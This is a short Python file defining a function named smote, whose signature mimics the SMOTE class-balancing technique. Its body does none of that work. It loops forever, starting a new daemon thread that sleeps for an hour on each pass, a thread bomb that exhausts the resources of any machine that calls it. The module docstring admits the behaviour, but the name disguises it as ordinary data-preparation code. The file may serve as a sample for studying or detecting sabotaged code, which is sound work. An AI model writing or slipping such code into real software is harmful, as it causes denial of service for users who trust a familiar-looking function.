"""Starts threads without end."""

import threading
import time


def smote(X, y, k=5, ratio=1.0, rng=None):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
